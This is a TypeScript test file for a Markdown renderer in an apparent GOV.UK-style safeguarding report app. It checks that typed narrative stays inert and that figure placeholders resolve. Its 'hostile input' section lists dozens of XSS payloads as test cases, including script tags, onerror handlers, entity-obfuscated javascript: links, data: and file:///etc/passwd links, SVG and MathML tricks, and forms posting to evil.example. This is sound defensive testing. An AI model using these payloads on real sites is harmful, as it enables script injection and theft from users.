import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import {
  literalMarkdown,
  markdownTokens,
  placeholderFor,
  renderMarkdown,
  resolvePlaceholders,
  type PlaceholderFigure,
} from './markdown.ts'

/**
 * Narrative is typed by officers and read by the public in a report: whatever is typed, nothing in
 * it runs, loads or leaves the page by surprise, and ordinary Markdown reads like GOV.UK.
 */

/** Every tag and attribute the output has, so a test can say exactly what got through. */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)].map(([, name, attributes]) => ({
    name: name!.toLowerCase(),
    attributes: [...attributes!.matchAll(/([\w:-]+)="([^"]*)"/g)].map(([, a, v]) => ({ name: a!, value: v! })),
  }))
}

const hrefsOf = (html: string) =>
  tagsOf(html).flatMap((t) => t.attributes.filter((a) => a.name === 'href').map((a) => a.value))

/** Nothing that runs or loads: no script, frame, style, image, svg, event handler or unsafe link. */
function assertInert(html: string) {
  const tags = tagsOf(html)
  for (const tag of tags) {
    assert.ok(
      [
        'p',
        'h3',
        'h4',
        'h5',
        'h6',
        'ul',
        'ol',
        'li',
        'strong',
        'em',
        'a',
        'blockquote',
        'code',
        'pre',
        'br',
        'hr',
      ].includes(tag.name) || /^(table|thead|tbody|tr|th|td)$/.test(tag.name),
      `unexpected <${tag.name}>`,
    )
    for (const attribute of tag.attributes) {
      assert.ok(['href', 'class', 'start', 'scope'].includes(attribute.name), `unexpected ${attribute.name}=`)
    }
  }
  for (const href of hrefsOf(html)) assert.match(href, /^(https?:|mailto:|\/[^/\\]|#)/i, `unsafe link ${href}`)
}

describe('renderMarkdown with hostile input', () => {
  const hostile: [input: string, why: string][] = [
    ['<script>alert(1)</script>', 'a script tag'],
    ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', 'a script tag with a source, in capitals'],
    ['<img src=x onerror=alert(1)>', 'an image with onerror'],
    ['<a href="https://example.org" onclick="alert(1)">x</a>', 'a raw link with onclick'],
    ['<a href="javascript:alert(1)">x</a>', 'a raw javascript: link'],
    ['<div onmouseover="alert(1)">hover</div>', 'a raw div with a handler'],
    ['<iframe src="https://evil.example"></iframe>', 'an iframe'],
    ['<style>body { display: none }</style>', 'a style sheet'],
    ['<svg onload=alert(1)><circle r="1"/></svg>', 'an svg payload'],
    ['<svg><script>alert(1)</script></svg>', 'a script inside svg'],
    ['<math><mtext><img src=x onerror=alert(1)></mtext></math>', 'a MathML mutation trick'],
    ['<!-- a comment --><p>after</p>', 'an HTML comment'],
    ['<object data="x.swf"></object><embed src="x">', 'object and embed'],
    ['<form action="https://evil.example"><input name="p"></form>', 'a form'],
    ['[x](javascript:alert(1))', 'a javascript: link'],
    ['[x](JaVaScRiPt:alert(1))', 'a javascript: link in mixed case'],
    ['[x](&#106;avascript:alert(1))', 'a javascript: link with an entity-encoded letter'],
    ['[x](&#x6A;avascript:alert(1))', 'a javascript: link with a hex entity'],
    ['[x](&#0000106;avascript:alert(1))', 'a javascript: link with a zero-padded entity'],
    ['[x](javascript&colon;alert(1))', 'a javascript: link with an encoded colon'],
    ['[x](java&#9;script:alert(1))', 'a javascript: link with an encoded tab'],
    ['[x](  javascript:alert(1))', 'a javascript: link after spaces'],
    ['[x](<javascript:alert(1)>)', 'a javascript: link in angle brackets'],
    ['[x](vbscript:msgbox(1))', 'a vbscript: link'],
    ['[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'a data: link'],
    ['[x](data:image/png;base64,AAAA)', 'a data: image link, which markdown-it alone allows'],
    ['[x](file:///etc/passwd)', 'a file: link'],
    ['[x](//evil.example/path)', 'a protocol-relative link that leaves the app'],
    ['[x][r]\n\n[r]: javascript:alert(1)', 'a reference-style javascript: link'],
    ['[r]: JAVASCRIPT:alert(1)\n\n[r]', 'a shortcut reference-style link'],
    ['<javascript:alert(1)>', 'a javascript: autolink'],
    ['<data:text/html,<script>alert(1)</script>>', 'a data: autolink'],
    ['[x](https://example.org "title\\" onclick=\\"alert(1)")', 'a quote in a link title'],
    ['[x](https://example.org/"onmouseover="alert(1))', 'quotes in a link address'],
    ['[x](https://example.org){onclick=alert(1)}', 'attribute syntax after a link'],
    ['[<img src=x onerror=alert(1)>](https://example.org)', 'raw HTML as link text'],
    ['![x](javascript:alert(1))', 'an image with a javascript: source'],
  ]
  for (const [input, why] of hostile) {
    it(`${why} stays inert`, () => assertInert(renderMarkdown(input)))
  }

  it('shows raw HTML as the text that was typed', () => {
    assert.equal(
      renderMarkdown('<script>alert(1)</script>'),
      '<p class="govuk-body">&lt;script&gt;alert(1)&lt;/script&gt;</p>\n',
    )
    assert.equal(renderMarkdown('<!-- hidden -->'), '<p class="govuk-body">&lt;!-- hidden --&gt;</p>\n')
  })

  it('leaves a link it will not make as the text typed, not as a link without an address', () => {
    for (const input of ['[x](javascript:alert(1))', '[x](//evil.example)', '[x](ftp://example.org)']) {
      const html = renderMarkdown(input)
      assert.ok(!html.includes('<a'), `${input} → ${html}`)
    }
    assert.equal(renderMarkdown('[x](JaVaScRiPt:alert(1))'), '<p class="govuk-body">[x](JaVaScRiPt:alert(1))</p>\n')
  })

  it('never shows an image: the picture stays a link the reader can choose to follow', () => {
    const html = renderMarkdown('![Our logo](https://example.org/logo.png)')
    assert.ok(!/<img/i.test(html))
    assert.equal(
      html,
      '<p class="govuk-body">!<a href="https://example.org/logo.png" class="govuk-link">Our logo</a></p>\n',
    )
    assert.ok(!markdownTokens('![x](https://example.org/x.png)')[1]!.children!.some((t) => t.type === 'image'))
  })
})

describe('renderMarkdown with ordinary narrative', () => {
  it('demotes headings 1 and 2 to 3, however they are written, and leaves code alone', () => {
    assert.equal(
      renderMarkdown('# Our year\n\n## Training\n\n### Audits\n\n#### Case reviews'),
      '<h3 class="govuk-heading-s">Our year</h3>\n<h3 class="govuk-heading-s">Training</h3>\n' +
        '<h3 class="govuk-heading-s">Audits</h3>\n<h4>Case reviews</h4>\n',
    )
    assert.equal(
      renderMarkdown('Our year\n========\n\nTraining\n--------'),
      renderMarkdown('# Our year\n\n## Training'),
    )
    assert.match(renderMarkdown('- # In a list'), /<li>\n<h3 class="govuk-heading-s">In a list<\/h3>/)
    assert.match(renderMarkdown('> ## Quoted'), /<blockquote>\n<h3 class="govuk-heading-s">Quoted<\/h3>/)
    assert.equal(renderMarkdown('```\n# not a heading\n```'), '<pre><code># not a heading\n</code></pre>\n')
    assert.deepEqual(
      markdownTokens('Title\n=====').map((t) => t.tag),
      ['h3', '', 'h3'],
    )
  })

  it('gives paragraphs, lists and links their GOV.UK classes', () => {
    assert.equal(
      renderMarkdown('The board met **six** times, _always_ quorate.'),
      '<p class="govuk-body">The board met <strong>six</strong> times, <em>always</em> quorate.</p>\n',
    )
    assert.equal(
      renderMarkdown('- Police\n- Health'),
      '<ul class="govuk-list govuk-list--bullet">\n<li>Police</li>\n<li>Health</li>\n</ul>\n',
    )
    assert.equal(
      renderMarkdown('3. Third\n4. Fourth'),
      '<ol start="3" class="govuk-list govuk-list--number">\n<li>Third</li>\n<li>Fourth</li>\n</ol>\n',
    )
    assert.equal(
      renderMarkdown(
        'See [Working Together](https://www.gov.uk/government/publications/working-together-to-safeguard-children--2).',
      ),
      '<p class="govuk-body">See <a href="https://www.gov.uk/government/publications/working-together-to-safeguard-children--2" class="govuk-link">Working Together</a>.</p>\n',
    )
  })

  it('makes links to web and email addresses, pages in the app and reference-style links', () => {
    assert.deepEqual(hrefsOf(renderMarkdown('[a](http://example.org) [b](mailto:lscb@example.org)')), [
      'http://example.org',
      'mailto:lscb@example.org',
    ])
    assert.deepEqual(hrefsOf(renderMarkdown('[people](/directory/people?role=chair) [top](#summary)')), [
      '/directory/people?role=chair',
      '#summary',
    ])
    assert.deepEqual(hrefsOf(renderMarkdown('[guidance][wt]\n\n[wt]: https://www.gov.uk "Working Together"')), [
      'https://www.gov.uk',
    ])
    assert.deepEqual(hrefsOf(renderMarkdown('<https://www.gov.uk>')), ['https://www.gov.uk'])
  })

  it('gives a Markdown table the GOV.UK table classes', () => {
    const html = renderMarkdown('| Agency | Referrals |\n|---|--:|\n| Police | 9,342 |')
    assert.match(html, /^<table class="govuk-table">/)
    assert.match(html, /<th class="govuk-table__header">Agency<\/th>/)
    assert.match(html, /<td class="govuk-table__cell">9,342<\/td>/)
    assertInert(html)
  })
})

describe('resolvePlaceholders', () => {
  const figures = new Map<string, PlaceholderFigure>([
    ['partnership.board-members', { display: '23', prose: '23' }],
    ['referrals.received', { display: '9,342', prose: 'more than 9,000' }],
  ])

  it('puts the prose form in a sentence, and the exact value when asked with |exact', () => {
    const { text, unknown, used } = resolvePlaceholders(
      'We received {{referrals.received}} referrals ({{referrals.received|exact}} exactly).',
      figures,
    )
    assert.equal(text, 'We received more than 9,000 referrals (9,342 exactly).')
    assert.deepEqual(unknown, [])
    assert.deepEqual(used, ['referrals.received', 'referrals.received'])
  })

  it('accepts spaces inside the braces and around the bar', () => {
    for (const typed of ['{{ referrals.received }}', '{{referrals.received }}', '{{  referrals.received}}']) {
      assert.equal(resolvePlaceholders(typed, figures).text, 'more than 9,000', typed)
    }
    for (const typed of ['{{ referrals.received | exact }}', '{{referrals.received|exact }}']) {
      assert.equal(resolvePlaceholders(typed, figures).text, '9,342', typed)
    }
  })

  it('shows an unknown figure in brackets and lists it, each time it appears', () => {
    const { text, unknown, used } = resolvePlaceholders(
      '{{partnership.board-members}} members; {{partnership.bored-members}} and {{partnership.bored-members|exact}}.',
      figures,
    )
    assert.equal(
      text,
      '23 members; [unknown figure partnership.bored-members] and [unknown figure partnership.bored-members].',
    )
    assert.deepEqual(unknown, ['partnership.bored-members', 'partnership.bored-members'])
    assert.deepEqual(used, ['partnership.board-members'])
  })

  it('leaves text that is not a placeholder alone', () => {
    for (const typed of [
      '{{referrals}}',
      '{referrals.received}',
      '{{Referrals.Received}}',
      '{{referrals.received|round}}',
    ]) {
      const result = resolvePlaceholders(typed, figures)
      assert.deepEqual(result, { text: typed, unknown: [], used: [] }, typed)
    }
  })

  it('is what the editor inserts for a figure', () => {
    assert.equal(placeholderFor('referrals.received'), '{{referrals.received}}')
    assert.equal(resolvePlaceholders(placeholderFor('referrals.received'), figures).text, 'more than 9,000')
  })

  it('puts figures into the text before Markdown is rendered, so a figure is escaped like any text', () => {
    const hostile = new Map([['x.y', { display: '<b>1</b>', prose: '<script>1</script>' }]])
    assert.equal(
      renderMarkdown(resolvePlaceholders('**{{x.y}}**', hostile).text),
      '<p class="govuk-body"><strong>&lt;script&gt;1&lt;/script&gt;</strong></p>\n',
    )
  })
})

describe('literalMarkdown', () => {
  it('shows a record’s text as written: no emphasis, link, list or placeholder made of it', () => {
    const typed = '1. *Fathers* and [male carers](https://example.org) {{x.y}} <b>\n second line_ - (unchanged).'
    const figures = new Map([['x.y', { display: '9', prose: '9' }]])
    const html = renderMarkdown(resolvePlaceholders(literalMarkdown(typed), figures).text)
    assert.equal(
      html,
      '<p class="govuk-body">1. *Fathers* and [male carers](https://example.org) {{x.y}} &lt;b&gt; second line_ - (unchanged).</p>\n',
    )
    assert.equal(
      literalMarkdown('Plain words, with (brackets) - and a full stop.'),
      'Plain words, with (brackets) - and a full stop.',
    )
    for (const start of ['# Heading', '- item', '+ item', '2) item', '> quote'])
      assert.doesNotMatch(renderMarkdown(literalMarkdown(start)), /<(h\d|ul|ol|blockquote)/, start)
  })
})
